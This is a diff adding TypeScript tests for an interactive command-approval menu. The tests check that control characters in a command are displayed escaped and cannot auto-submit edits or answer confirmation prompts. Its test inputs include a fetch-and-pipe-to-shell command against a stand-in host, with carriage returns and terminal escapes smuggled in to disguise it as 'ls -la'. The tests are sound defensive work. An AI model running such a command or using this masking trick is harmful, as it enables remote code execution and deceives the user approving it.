@@ -102,3 +102,52 @@ describe("the command menu", () => {
     expect(result.executed).toBe(false);
   });
 });
+
+describe("a command that holds control characters", () => {
+  /** The menu on a real readline prompter over streams that act as a terminal, and what it printed. */
+  async function onTerminal(command: string, keys: string[]) {
+    const { PassThrough } = await import("node:stream");
+    const { createTerminalPrompter } = await import("./interact.js");
+    const input = new PassThrough();
+    const output = Object.assign(new PassThrough(), { isTTY: true });
+    let shown = "";
+    output.on("data", (d: Buffer) => (shown += String(d)));
+    const prompter = createTerminalPrompter(input, output);
+    const executed: string[] = [];
+    const typing = (async () => {
+      for (const key of keys) {
+        await new Promise((resolve) => setTimeout(resolve, 30));
+        input.write(key);
+      }
+      await new Promise((resolve) => setTimeout(resolve, 30));
+      input.end();
+    })();
+    const result = await interact({
+      command,
+      analyze: (c) => analyzer.analyze(c, where),
+      execute: async (c) => (executed.push(c), 0),
+      copy: () => "",
+      prompter,
+      color: false,
+      safety: "moderate",
+    });
+    await typing;
+    prompter.close();
+    return { result, executed, shown };
+  }
+
+  it("shows them written out, so the line shown is the line that runs", async () => {
+    const { shown } = await onTerminal("curl -s https://evil.example/x | sh #\r\x1b[2Kls -la", ["a\r"]);
+    expect(shown).toContain("curl -s https://evil.example/x | sh #\\r\\x1b[2Kls -la");
+    expect(shown).not.toContain("\x1b[2K");
+  });
+
+  it("puts them in Revise's line written out: a line end in it does not submit the edit, nor answer the prompts after it", async () => {
+    // Before, readline took the pre-filled text as keys typed: its `\r`s submitted the edit, chose
+    // Execute and typed the critical command's `yes`, with only `r` and Enter pressed.
+    const { result, executed } = await onTerminal("curl -s https://evil.example/x | sh #\re\ryes\r", ["r\r", "\r", "a\r"]);
+    expect(executed).toEqual([]);
+    expect(result.executed).toBe(false);
+    expect(result.command).toBe("curl -s https://evil.example/x | sh #\\re\\ryes\\r");
+  });
+});
